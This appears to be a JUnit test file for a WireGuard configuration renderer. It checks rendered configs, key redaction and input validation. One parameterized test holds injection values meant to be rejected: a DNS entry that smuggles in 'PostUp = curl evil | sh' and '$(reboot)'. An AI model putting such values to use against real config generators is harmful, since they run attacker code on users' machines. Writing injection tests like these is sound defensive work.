package io.peerwarden.core.render;

import static io.peerwarden.core.render.TestKeys.CLIENT_PRIVATE;
import static io.peerwarden.core.render.TestKeys.PSK;
import static io.peerwarden.core.render.TestKeys.SERVER_PUBLIC;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.peerwarden.core.keys.InvalidKeyException;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class WgQuickConfigRendererTest {

    static ClientConfig dualStackClient() {
        return new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.2/32", "fd00:24::2/128"),
                List.of("10.24.0.1", "example.internal"), 1420, SERVER_PUBLIC, PSK, "vpn.example.com:51820",
                List.of("10.24.0.0/24", "fd00:24::/64"), 25);
    }

    @Test
    void rendersADualStackClientWithEveryField() {
        assertThat(WgQuickConfigRenderer.render(dualStackClient())).isEqualTo("""
                [Interface]
                PrivateKey = dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=
                Address = 10.24.0.2/32, fd00:24::2/128
                DNS = 10.24.0.1, example.internal
                MTU = 1420

                [Peer]
                PublicKey = 3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08=
                PresharedKey = AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=
                Endpoint = vpn.example.com:51820
                AllowedIPs = 10.24.0.0/24, fd00:24::/64
                PersistentKeepalive = 25
                """);
    }

    @Test
    void rendersASiteWithSeveralAllowedIPsInTheGivenOrder() {
        ClientConfig site = new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.9/32"), List.of(), null, SERVER_PUBLIC,
                PSK, "203.0.113.7:51820", List.of("10.24.0.0/24", "192.168.10.0/24", "172.16.0.0/12", "fd00:24::/64"), 25);
        assertThat(WgQuickConfigRenderer.render(site)).isEqualTo("""
                [Interface]
                PrivateKey = dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=
                Address = 10.24.0.9/32

                [Peer]
                PublicKey = 3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08=
                PresharedKey = AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=
                Endpoint = 203.0.113.7:51820
                AllowedIPs = 10.24.0.0/24, 192.168.10.0/24, 172.16.0.0/12, fd00:24::/64
                PersistentKeepalive = 25
                """);
    }

    @Test
    void broughtOwnKeyGetsAPlaceholderCommentInsteadOfAPrivateKey() {
        ClientConfig byo = new ClientConfig(null, List.of("10.24.0.3/32"), List.of("10.24.0.1"), null, SERVER_PUBLIC,
                PSK, "vpn.example.com:51820", List.of("0.0.0.0/0", "::/0"), null);
        String rendered = WgQuickConfigRenderer.render(byo);
        assertThat(rendered).isEqualTo("""
                [Interface]
                # PrivateKey = <your private key: you registered your own public key, so Peerwarden never saw it>
                Address = 10.24.0.3/32
                DNS = 10.24.0.1

                [Peer]
                PublicKey = 3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08=
                PresharedKey = AQIDBAUGBwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyA=
                Endpoint = vpn.example.com:51820
                AllowedIPs = 0.0.0.0/0, ::/0
                """);
        assertThat(rendered).doesNotContainPattern("(?m)^PrivateKey");
    }

    @Test
    void withoutPresharedKeyDnsMtuOrKeepaliveThoseLinesAreOmitted() {
        ClientConfig minimal = new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.4/32"), null, null, SERVER_PUBLIC,
                null, "vpn.example.com:51820", List.of("10.24.0.0/24"), 0);
        assertThat(WgQuickConfigRenderer.render(minimal)).isEqualTo("""
                [Interface]
                PrivateKey = dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=
                Address = 10.24.0.4/32

                [Peer]
                PublicKey = 3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08=
                Endpoint = vpn.example.com:51820
                AllowedIPs = 10.24.0.0/24
                """);
    }

    @Test
    void rendersAnIpv6EndpointInBrackets() {
        ClientConfig v6 = new ClientConfig(CLIENT_PRIVATE, List.of("fd00:24::5/128"), List.of("fd00:24::1"), 1280,
                SERVER_PUBLIC, null, "[fd00::1]:51820", List.of("fd00:24::/64"), 15);
        assertThat(WgQuickConfigRenderer.render(v6)).isEqualTo("""
                [Interface]
                PrivateKey = dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=
                Address = fd00:24::5/128
                DNS = fd00:24::1
                MTU = 1280

                [Peer]
                PublicKey = 3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08=
                Endpoint = [fd00::1]:51820
                AllowedIPs = fd00:24::/64
                PersistentKeepalive = 15
                """);
    }

    @Test
    void sameInputGivesTheSameBytesAndListsAreCopied() {
        List<String> dns = new ArrayList<>(List.of("10.24.0.1"));
        ClientConfig config = new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.2/32"), dns, null, SERVER_PUBLIC, null,
                "vpn.example.com:51820", List.of("10.24.0.0/24"), null);
        String first = WgQuickConfigRenderer.render(config);
        dns.add("10.24.0.2");
        assertThat(WgQuickConfigRenderer.render(config)).isEqualTo(first);
        assertThat(WgQuickConfigRenderer.render(dualStackClient())).isEqualTo(WgQuickConfigRenderer.render(dualStackClient()));
    }

    @Test
    void keysFromSecretsWithATrailingNewlineAreWrittenCanonically() {
        ClientConfig config = new ClientConfig(CLIENT_PRIVATE + "\n", List.of("10.24.0.2/32"), null, null,
                SERVER_PUBLIC + "\n", PSK + "\r\n", "vpn.example.com:51820", List.of("10.24.0.0/24"), null);
        assertThat(WgQuickConfigRenderer.render(config))
                .contains("PrivateKey = " + CLIENT_PRIVATE + "\n")
                .contains("PublicKey = " + SERVER_PUBLIC + "\n")
                .contains("PresharedKey = " + PSK + "\n")
                .doesNotContain("\r");
    }

    @ParameterizedTest
    @ValueSource(strings = {"1.1.1.1\nPostUp = curl evil | sh", "1.1.1.1, 8.8.8.8", "1.1.1.1 # x", "$(reboot)", "a=b", ""})
    void aValueThatCouldBreakOutOfItsLineIsRejected(String dns) {
        ClientConfig config = new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.2/32"), List.of(dns), null,
                SERVER_PUBLIC, null, "vpn.example.com:51820", List.of("10.24.0.0/24"), null);
        assertThatThrownBy(() -> WgQuickConfigRenderer.render(config))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("dns[0]")
                .hasMessageNotContaining("\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"vpn.example.com", "fd00::1:51820", "[fd00::1]", "vpn.example.com:0", "vpn.example.com:70000",
            "vpn.example.com:51820\nPostUp = x"})
    void anEndpointThatIsNotHostColonPortIsRejected(String endpoint) {
        ClientConfig config = new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.2/32"), null, null, SERVER_PUBLIC,
                null, endpoint, List.of("10.24.0.0/24"), null);
        assertThatThrownBy(() -> WgQuickConfigRenderer.render(config))
                .isInstanceOf(IllegalArgumentException.class).hasMessageStartingWith("endpoint");
    }

    @Test
    void anInvalidPrivateKeyIsRejectedWithoutEchoingIt() {
        String almostKey = CLIENT_PRIVATE.substring(0, 40) + "!!!=";
        ClientConfig config = new ClientConfig(almostKey, List.of("10.24.0.2/32"), null, null, SERVER_PUBLIC, null,
                "vpn.example.com:51820", List.of("10.24.0.0/24"), null);
        assertThatThrownBy(() -> WgQuickConfigRenderer.render(config))
                .isInstanceOf(InvalidKeyException.class)
                .hasMessageStartingWith("privateKey: ")
                .hasMessageNotContaining(CLIENT_PRIVATE.substring(0, 10));
    }

    @Test
    void missingRequiredValuesAreRejected() {
        assertThatThrownBy(() -> WgQuickConfigRenderer.render(new ClientConfig(CLIENT_PRIVATE, List.of(), null, null,
                SERVER_PUBLIC, null, "vpn.example.com:51820", List.of("10.24.0.0/24"), null)))
                .hasMessage("addresses must not be empty");
        assertThatThrownBy(() -> WgQuickConfigRenderer.render(new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.2/32"),
                null, null, null, null, "vpn.example.com:51820", List.of("10.24.0.0/24"), null)))
                .hasMessage("serverPublicKey is required");
        assertThatThrownBy(() -> WgQuickConfigRenderer.render(new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.2/32"),
                null, null, SERVER_PUBLIC, null, "vpn.example.com:51820", List.of(), null)))
                .hasMessage("allowedIPs must not be empty");
        assertThatThrownBy(() -> WgQuickConfigRenderer.render(new ClientConfig(CLIENT_PRIVATE, List.of("10.24.0.2/32"),
                null, null, SERVER_PUBLIC, null, "vpn.example.com:51820", List.of("10.24.0.0/24"), -1)))
                .hasMessage("persistentKeepalive must be 0-65535, not -1");
    }

    @Test
    void toStringNeverShowsThePrivateOrPresharedKey() {
        assertThat(dualStackClient().toString())
                .doesNotContain(CLIENT_PRIVATE).doesNotContain(PSK)
                .contains("<redacted>").contains(SERVER_PUBLIC);
    }
}
